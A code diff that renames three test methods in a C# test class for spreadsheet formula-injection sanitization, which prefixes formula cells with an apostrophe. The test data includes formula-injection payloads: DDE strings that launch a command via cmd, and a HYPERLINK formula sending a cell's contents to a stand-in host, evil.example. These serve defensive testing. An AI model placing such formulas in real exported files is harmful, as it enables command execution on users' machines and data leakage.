@@ -28,7 +28,7 @@ public sealed class SpreadsheetCellsTests : ReportTest
     [InlineData("@SUM(1+9)*cmd|'/C calc'!A0")]
     [InlineData("=HYPERLINK(\"https://evil.example?x=\"&A1,\"click\")")]
     [InlineData("＝1")]
-    public void Formulas_get_an_apostrophe(string cell)
+    public void Formulas_are_prefixed_with_an_apostrophe(string cell)
     {
         SpreadsheetCells cells = new();
 
@@ -46,7 +46,7 @@ public sealed class SpreadsheetCellsTests : ReportTest
     [InlineData("O'Hara")]
     [InlineData("5")]
     [InlineData("\"Dr.\" =x")]
-    public void Everything_else_stays(string? cell)
+    public void Other_cells_are_unchanged(string? cell)
     {
         SpreadsheetCells cells = new();
 
@@ -55,7 +55,7 @@ public sealed class SpreadsheetCellsTests : ReportTest
     }
 
     [Fact]
-    public void A_report_is_exact_unless_it_is_asked_to_be_safe()
+    public void Report_is_exact_unless_safe_cells_are_requested()
     {
         RunReport report = Carry(Plan(2, n => n == 1 ? "=cmd|'/C calc'!A0" : "a,\"=1\"\r\n=2"), s => Outcome(s.Number, message: "+1"), ending: RunEnding.Done);
         int changed = -1;
